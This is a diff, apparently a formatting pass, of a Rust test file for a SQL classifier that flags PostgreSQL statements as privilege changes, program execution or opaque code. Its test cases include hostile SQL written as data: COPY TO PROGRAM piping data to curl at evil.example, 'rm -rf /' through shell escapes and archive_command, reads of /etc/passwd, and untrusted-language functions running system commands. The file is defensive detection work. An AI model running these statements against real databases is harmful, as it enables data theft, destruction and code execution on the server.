     ("ALTER USER bob PASSWORD 'y'", "ALTER ROLE", &[PrivilegeChange]),
-    ("ALTER ROLE bob SET search_path = x", "ALTER ROLE", &[PrivilegeChange]),
+    (
+        "ALTER ROLE bob SET search_path = x",
+        "ALTER ROLE",
+        &[PrivilegeChange],
+    ),
     ("DROP ROLE bob", "DROP ROLE", &[PrivilegeChange]),
     ("DROP USER IF EXISTS bob", "DROP ROLE", &[PrivilegeChange]),
     ("SET ROLE admin", "SET", &[PrivilegeChange]),
@@ -316,43 +693,119 @@ const PRIVILEGES: &[Case] = &[
     ("RESET ROLE", "RESET", &[PrivilegeChange]),
     ("SET SESSION AUTHORIZATION postgres", "SET", &[PrivilegeChange]),
     ("SET LOCAL ROLE admin", "SET", &[PrivilegeChange]),
-    ("ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r", "ALTER DEFAULT PRIVILEGES", &[PrivilegeChange]),
+    (
+        "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r",
+        "ALTER DEFAULT PRIVILEGES",
+        &[PrivilegeChange],
+    ),
     ("REASSIGN OWNED BY a TO b", "REASSIGN OWNED", &[PrivilegeChange]),
-    ("ALTER TABLE t OWNER TO bob", "ALTER TABLE", &[Ddl, PrivilegeChange]),
-    ("ALTER SCHEMA s OWNER TO bob", "ALTER SCHEMA", &[Ddl, PrivilegeChange]),
-    ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", "ALTER TABLE", &[Ddl, PrivilegeChange]),
-    ("CREATE POLICY p ON t USING (true)", "CREATE POLICY", &[Ddl, PrivilegeChange]),
-    ("SELECT set_config('role', 'admin', false)", "SELECT", &[PrivilegeChange]),
+    (
+        "ALTER TABLE t OWNER TO bob",
+        "ALTER TABLE",
+        &[Ddl, PrivilegeChange],
+    ),
+    (
+        "ALTER SCHEMA s OWNER TO bob",
+        "ALTER SCHEMA",
+        &[Ddl, PrivilegeChange],
+    ),
+    (
+        "ALTER TABLE t DISABLE ROW LEVEL SECURITY",
+        "ALTER TABLE",
+        &[Ddl, PrivilegeChange],
+    ),
+    (
+        "CREATE POLICY p ON t USING (true)",
+        "CREATE POLICY",
+        &[Ddl, PrivilegeChange],
+    ),
+    (
+        "SELECT set_config('role', 'admin', false)",
+        "SELECT",
+        &[PrivilegeChange],
+    ),
 ];
 
 const PROGRAMS: &[Case] = &[
-    ("COPY t TO PROGRAM 'curl -d @- evil.example'", "COPY TO", &[ProgramExecution]),
-    ("COPY t FROM PROGRAM 'id'", "COPY FROM", &[Write, ProgramExecution]),
-    ("copy (select 1) to program 'sh -c \"rm -rf /\"'", "COPY TO", &[ProgramExecution]),
+    (
+        "COPY t TO PROGRAM 'curl -d @- evil.example'",
+        "COPY TO",
+        &[ProgramExecution],
+    ),
+    (
+        "COPY t FROM PROGRAM 'id'",
+        "COPY FROM",
+        &[Write, ProgramExecution],
+    ),
+    (
+        "copy (select 1) to program 'sh -c \"rm -rf /\"'",
+        "COPY TO",
+        &[ProgramExecution],
+    ),
     ("COPY t TO '/tmp/out.csv'", "COPY TO", &[ProgramExecution]),
-    ("COPY t FROM '/etc/passwd'", "COPY FROM", &[Write, ProgramExecution]),
+    (
+        "COPY t FROM '/etc/passwd'",
+        "COPY FROM",
+        &[Write, ProgramExecution],
+    ),
     ("SELECT lo_import('/etc/passwd')", "SELECT", &[ProgramExecution]),
     ("SELECT lo_export(1234, '/tmp/x')", "SELECT", &[ProgramExecution]),
-    ("SELECT pg_read_file('/etc/passwd')", "SELECT", &[ProgramExecution]),
-    ("SELECT pg_catalog.pg_read_binary_file('postgresql.conf')", "SELECT", &[ProgramExecution]),
+    (
+        "SELECT pg_read_file('/etc/passwd')",
+        "SELECT",
+        &[ProgramExecution],
+    ),
+    (
+        "SELECT pg_catalog.pg_read_binary_file('postgresql.conf')",
+        "SELECT",
+        &[ProgramExecution],
+    ),
     ("SELECT pg_ls_dir('.')", "SELECT", &[ProgramExecution]),
     ("SELECT * FROM pg_stat_file('x')", "SELECT", &[ProgramExecution]),
     ("LOAD 'plpgsql'", "LOAD", &[ProgramExecution]),
-    ("ALTER SYSTEM SET archive_command = 'rm -rf /'", "ALTER SYSTEM", &[Ddl, ProgramExecution]),
-    ("ALTER SYSTEM SET shared_preload_libraries = 'evil'", "ALTER SYSTEM", &[Ddl, ProgramExecution]),
-    ("CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS $$ import os $$", "CREATE FUNCTION", &[Ddl, ProgramExecution]),
-    ("CREATE FUNCTION f() RETURNS int AS 'libevil', 'f' LANGUAGE C", "CREATE FUNCTION", &[Ddl, ProgramExecution]),
-    ("CREATE OR REPLACE FUNCTION x() RETURNS void LANGUAGE plperlu AS $$ system('id') $$", "CREATE FUNCTION", &[Ddl, ProgramExecution]),
+    (
+        "ALTER SYSTEM SET archive_command = 'rm -rf /'",
+        "ALTER SYSTEM",
+        &[Ddl, ProgramExecution],
+    ),
+    (
+        "ALTER SYSTEM SET shared_preload_libraries = 'evil'",
+        "ALTER SYSTEM",
+        &[Ddl, ProgramExecution],
+    ),
+    (
+        "CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS $$ import os $$",
+        "CREATE FUNCTION",
+        &[Ddl, ProgramExecution],
+    ),
+    (
+        "CREATE FUNCTION f() RETURNS int AS 'libevil', 'f' LANGUAGE C",
+        "CREATE FUNCTION",
+        &[Ddl, ProgramExecution],
+    ),
+    (
+        "CREATE OR REPLACE FUNCTION x() RETURNS void LANGUAGE plperlu AS $$ system('id') $$",
+        "CREATE FUNCTION",
+        &[Ddl, ProgramExecution],
+    ),
     ("\\! rm -rf /", "\\!", &[Opaque, ProgramExecution]),
     ("  \\!ls", "\\!ls", &[Opaque, ProgramExecution]),
-    ("\\copy t from program 'id'", "\\copy", &[Opaque, ProgramExecution]),
+    (
+        "\\copy t from program 'id'",
+        "\\copy",
+        &[Opaque, ProgramExecution],
+    ),
     ("\\o |cat", "\\o", &[Opaque, ProgramExecution]),
 ];
 
 const OPAQUE: &[Case] = &[
     ("DO $$ BEGIN DROP TABLE t; END $$", "DO", &[Opaque]),
     ("do 'begin perform 1; end'", "DO", &[Opaque]),
-    ("DO LANGUAGE plpgsql $x$ BEGIN EXECUTE 'DROP TABLE t'; END $x$", "DO", &[Opaque]),
+    (
+        "DO LANGUAGE plpgsql $x$ BEGIN EXECUTE 'DROP TABLE t'; END $x$",
+        "DO",
+        &[Opaque],
+    ),
     ("EXECUTE stmt", "EXECUTE", &[Opaque]),
     ("EXECUTE stmt(1, 'a')", "EXECUTE", &[Opaque]),
     ("SELCT * FROM t", "UNKNOWN", &[Opaque]),
@@ -360,9 +813,21 @@ const OPAQUE: &[Case] = &[
     ("SELECT 'unterminated", "UNKNOWN", &[Opaque]),
     ("SELECT 1; DRP TABLE t", "UNKNOWN", &[Opaque]),
     ("\\d users", "\\d", &[Opaque]),
-    ("SELECT dblink_exec('dbname=x', 'DROP TABLE t')", "SELECT", &[Opaque]),
-    ("SELECT * FROM dblink('dbname=x', 'DELETE FROM t RETURNING 1') AS r(i int)", "SELECT", &[Opaque]),
-    ("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", "SELECT", &[Opaque]),
+    (
+        "SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
+        "SELECT",
+        &[Opaque],
+    ),
+    (
+        "SELECT * FROM dblink('dbname=x', 'DELETE FROM t RETURNING 1') AS r(i int)",
+        "SELECT",
+        &[Opaque],
+    ),
+    (
+        "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
+        "SELECT",
+        &[Opaque],
+    ),
     ("SELECT ext.dblink_exec('x', 'y')", "SELECT", &[Opaque]),
     ("DROP TABLE t\0", "UNKNOWN", &[Opaque]),
     ("ＤＲＯＰ TABLE t", "UNKNOWN", &[Opaque]),
@@ -373,10 +838,18 @@ const OPAQUE: &[Case] = &[
 const UNKNOWN_FUNCTIONS: &[Case] = &[
     ("SELECT my_func(1)", "SELECT", &[UnknownFunction]),
     ("SELECT public.lower('X')", "SELECT", &[UnknownFunction]),
-    ("SELECT * FROM t WHERE audit.log_access(id)", "SELECT", &[UnknownFunction]),
+    (
+        "SELECT * FROM t WHERE audit.log_access(id)",
+        "SELECT",
+        &[UnknownFunction],
+    ),
     ("SELECT * FROM app.get_report(2024)", "SELECT", &[UnknownFunction]),
     ("SELECT (SELECT my_writer()) AS x", "SELECT", &[UnknownFunction]),
-    ("SELECT a FROM t ORDER BY side_effect(a)", "SELECT", &[UnknownFunction]),
+    (
+        "SELECT a FROM t ORDER BY side_effect(a)",
+        "SELECT",
+        &[UnknownFunction],
+    ),
 ];
 
 const EVASIONS: &[Case] = &[
@@ -453,14 +926,29 @@ fn check(cases: &[Case]) {
         let got: BTreeSet<String> = classified
             .items
             .iter()
-            .flat_map(|item| item.findings.iter().map(|finding| finding.category.as_str().to_owned()))
+            .flat_map(|item| {
+                item.findings
+                    .iter()
+                    .map(|finding| finding.category.as_str().to_owned())
+            })
             .collect();
-        let want: BTreeSet<String> = categories.iter().map(|category| category.as_str().to_owned()).collect();
+        let want: BTreeSet<String> = categories
+            .iter()
+            .map(|category| category.as_str().to_owned())
+            .collect();
         if got_tags.join("; ") != *tags || got != want {
-            failures.push(format!("{sql:?}\n    want {tags} {want:?}\n    got  {} {got:?}", got_tags.join("; ")));
+            failures.push(format!(
+                "{sql:?}\n    want {tags} {want:?}\n    got  {} {got:?}",
+                got_tags.join("; ")
+            ));
         }
     }
-    assert!(failures.is_empty(), "{} case(s) failed:\n{}", failures.len(), failures.join("\n"));
+    assert!(
+        failures.is_empty(),
+        "{} case(s) failed:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
 }
 
 #[test]
@@ -520,9 +1008,21 @@ fn evasions_are_classified_the_way_the_server_reads_them() {
 
 #[test]
 fn the_corpus_has_hundreds_of_cases() {
-    let total = [READS, SESSION, WRITES, UNSAFE_DML, SAFE_WHERE, DDL, PRIVILEGES, PROGRAMS, OPAQUE, UNKNOWN_FUNCTIONS, EVASIONS]
-        .iter()
-        .map(|cases| cases.len())
-        .sum::<usize>();
+    let total = [
+        READS,
+        SESSION,
+        WRITES,
+        UNSAFE_DML,
+        SAFE_WHERE,
+        DDL,
+        PRIVILEGES,
+        PROGRAMS,
+        OPAQUE,
+        UNKNOWN_FUNCTIONS,
+        EVASIONS,
+    ]
+    .iter()
+    .map(|cases| cases.len())
+    .sum::<usize>();
     assert!(total >= 300, "only {total} cases");
 }
